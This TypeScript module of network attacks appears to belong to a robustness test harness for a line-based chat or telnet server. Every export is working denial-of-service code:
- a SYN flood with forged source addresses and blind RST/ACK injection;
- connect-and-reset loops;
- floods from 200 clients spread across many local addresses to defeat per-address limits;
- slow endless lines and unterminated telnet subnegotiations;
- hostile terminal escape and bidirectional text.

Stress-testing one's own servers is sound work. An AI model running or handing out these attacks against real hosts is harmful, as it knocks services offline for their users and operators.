import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

import { Forger } from '../network/forge.ts'
import { type Attack, type Attacked, repeat } from './attack.ts'
import { forgedSource } from './udp-attacks.ts'

const CLIENTS = 200
/** Of the host of attackers, on its loopback interface: a limit for each address stops none of them. */
const address = (number: number): string => `10.77.1.${1 + (number % 200)}`

/** Connections from many addresses, until it is told to stop. */
export async function withClients(
  target: Attacked,
  signal: AbortSignal,
  count: number,
  use: (socket: Socket, number: number) => void,
): Promise<Record<string, number>> {
  const counts = { connected: 0, closed: 0, receivedBytes: 0 }
  const sockets = Array.from({ length: count }, (_, number) => {
    const socket = connect({
      host: target.address,
      port: target.port,
      localAddress: address(number),
      allowHalfOpen: true,
    })
    socket.on('error', () => {})
    socket.on('connect', () => {
      counts.connected += 1
      use(socket, number)
    })
    socket.on('close', () => {
      counts.closed += 1
      counts.receivedBytes += socket.bytesRead
    })
    return socket
  })
  while (!signal.aborted) await delay(50)
  for (const socket of sockets) socket.destroy()
  await delay(100)
  return counts
}

/** Writes the same again and again, as fast as it is taken, and never reads. */
export function flooding(text: string, encoding: BufferEncoding = 'utf8'): Attack {
  const bytes = Buffer.from(text.repeat(Math.ceil(16_384 / text.length)), encoding)
  return (target, signal) =>
    withClients(target, signal, CLIENTS, (socket) => {
      socket.pause()
      const more = (): void => {
        while (!socket.destroyed && socket.write(bytes));
      }
      socket.on('drain', more)
      more()
    })
}

/** Requests to connect from hosts that are not there (RFC 4987). */
const synFlood: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 2_000, (number) =>
    forger.sendSegment({ from: forgedSource(number), to: target, flags: 'syn', sequence: number }),
  )
}

/** Resets and acknowledgements with guessed numbers on all ports of a client (RFC 5961). */
const blindResets: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 3_000, (number) =>
    forger.sendSegment({
      from: { address: '10.77.0.2', port: 32_768 + (number % 28_000) },
      to: target,
      flags: number % 2 === 0 ? 'rst' : 'ack',
      sequence: (number * 65_535) >>> 0,
    }),
  )
}

/** Connects and resets, again and again. */
const connectAndReset: Attack = async (target, signal) => {
  return await repeat(signal, 300, (number) => {
    const where = { host: target.address, port: target.port, localAddress: address(number) }
    const socket = connect(where, () => socket.resetAndDestroy())
    socket.on('error', () => {})
  })
}

/** A FIN at once, and nothing read. */
const halfClosed: Attack = (target, signal) =>
  withClients(target, signal, CLIENTS, (socket) => socket.pause().end('x'.repeat(10_000)))

/** Each says its name anew, as fast as it may. */
const renaming: Attack = (target, signal) =>
  withClients(target, signal, CLIENTS, (socket, number) => {
    socket.resume()
    let count = 0
    const timer = setInterval(() => {
      socket.write(`/nick n${number}x${(count += 1)}\n`)
    }, 100)
    socket.on('close', () => clearInterval(timer))
  })

/** A line that never ends, a byte at a time. */
const endlessLine: Attack = (target, signal) =>
  withClients(target, signal, CLIENTS, (socket) => {
    socket.resume()
    const timer = setInterval(() => socket.write('x'), 10)
    socket.on('close', () => clearInterval(timer))
  })

/** A connection for each of the other side's limits: all join and all leave, again and again. */
const comeAndGo: Attack = async (target, signal) => {
  let rounds = 0
  for (; !signal.aborted; rounds += 1) {
    const round = AbortSignal.any([signal, AbortSignal.timeout(500)])
    await withClients(target, round, CLIENTS, (socket) => socket.resume().write('hello\n'))
  }
  return { rounds }
}

export const tcpAttacks: Readonly<Record<string, Attack>> = {
  synFlood,
  blindResets,
  connectAndReset,
  halfClosed,
  comeAndGo,
  renaming,
  endlessLine,
  /** Nothing but line feeds. */
  emptyLines: flooding('\n'),
  /** A telnet subnegotiation without an end (RFC 855). */
  endlessSubnegotiation: flooding('ÿú\u0018', 'latin1'),
  /** All that a terminal obeys, right to left, marks upon marks. */
  hostileText: flooding(`\u001b[2J\u202e${'\u0301'.repeat(200)}\u2028\u0000\n`),
  /** Bytes, never read back. */
  neverRead: flooding('x'),
}
